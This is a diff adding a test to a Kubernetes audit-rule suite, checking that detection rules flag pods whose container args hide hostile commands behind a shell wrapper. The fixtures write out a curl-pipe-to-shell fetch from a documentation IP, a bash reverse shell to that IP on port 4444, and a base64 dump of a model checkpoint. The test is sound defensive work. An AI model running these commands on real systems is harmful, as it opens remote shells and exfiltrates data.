@@ -200,4 +200,25 @@ describe('workload rules through the real audit reader', () => {
       '8 configmaps -',
     ]);
   });
+
+  it('read what a container runs from its args when its command is a shell handing them on ("$@", $0, $1)', async () => {
+    const run = (command: string[], args: string[]): Record<string, unknown> => pod({ containers: [{ name: 'c', image: 'python:3.12', command, args }] });
+    const lines = [
+      // A fetched script run (MLS-RAY-036), a reverse shell (MLS-RAY-034), a checkpoint printed to the log (MLS-EXFIL-049): each only in args.
+      write('create', 'pods', run(['sh', '-c', 'exec "$@"', '--'], ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'])),
+      write('create', 'pods', run(['/bin/sh', '-c', '"$@"'], ['_', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])),
+      write('create', 'pods', run(['sh', '-c', 'tar czf - "$1" | base64 -w0; sleep 3600'], ['x', '/mnt/ckpt/step-9000'])),
+      // The everyday entrypoint wrapper around a trainer, and an argument that is only printed (left).
+      write('create', 'pods', run(['sh', '-c', 'exec "$@"', '--'], ['torchrun', '--nproc-per-node=8', 'train.py', '--ckpt-dir', '/mnt/ckpt'])),
+      write('create', 'pods', run(['sh', '-c', 'echo "$1"; sleep 3600'], ['x', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])),
+    ];
+    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
+    expect(got).toEqual([
+      '1 pods MLS-RAY-036 alert',
+      '2 pods MLS-RAY-034 alert',
+      '3 pods MLS-EXFIL-049 alert',
+      '4 pods -',
+      '5 pods -',
+    ]);
+  });
 });
